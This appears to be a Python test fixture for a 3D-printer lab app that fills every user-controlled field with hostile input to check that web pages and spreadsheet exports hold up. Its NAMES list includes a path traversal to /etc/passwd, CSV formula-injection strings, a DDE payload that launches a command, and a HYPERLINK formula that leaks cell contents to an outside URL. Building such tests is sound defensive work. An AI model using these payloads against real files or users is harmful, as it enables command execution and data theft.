"""A lab in which whoever could type something typed mischief."""

from __future__ import annotations

from machines.job_entries import SpoolLoaded, TabletPaired, Why
from machines.journal import MachineDescribed, Result, SiteDescribed
from tests.central.shelf import Shelf
from tests.field import Field
from tests.web.fake_screens import HOSTILE

#: What a page must survive, and what a spreadsheet must.
NAMES = (
    *HOSTILE,
    "../../etc/passwd",
    "=1+1;@SUM(A1)",
    '=HYPERLINK("http://example.org/"&A1;"click")',
    "=cmd|' /C calc'!A1",
    "@SUM(1;1)",
    "+33 6 00 00 00 00",
    "-2+3",
    "\t=1+1",
    "\n =HYPERLINK(1)",
    "＝1+1",
    'Presse "A3"; neuve',
    "a,b;c\td",
    "\u2066=1+1\u2069",
)


def overrun(*names: str) -> Shelf:
    """One month, a lab for each name, which stands wherever a person or a device has a say."""
    shelf = Shelf()
    for number, name in enumerate(names):
        lab = Field("2026-11-24 09:00", store=f"{number:032x}")
        spoil(lab, name)
        shelf.lay(lab.entries, f"lab-{number}")
    shelf.fold()
    return shelf


def spoil(lab: Field, name: str) -> None:
    machine = MachineDescribed("prusa", name, name, "watched")
    lab.write(SiteDescribed(name, name, (machine,), ((),) * 7))
    lab.write(TabletPaired("1", name))
    lab.write(SpoolLoaded("prusa", name, name, 500, name))
    lab.close(lab.open("prusa", name, public=name, category=name, source=name), "prusa")
    job = lab.brought(name, name, file_name=name)
    failed = lab.printed(1, job=job, result=Result.FAILED, material=name, evidence=name)
    lab.judge(failed, Why.OTHER)
    lab.own(lab.printed(1, material=name), name, name)
    lab.ran(name, hours=1, meter=name)
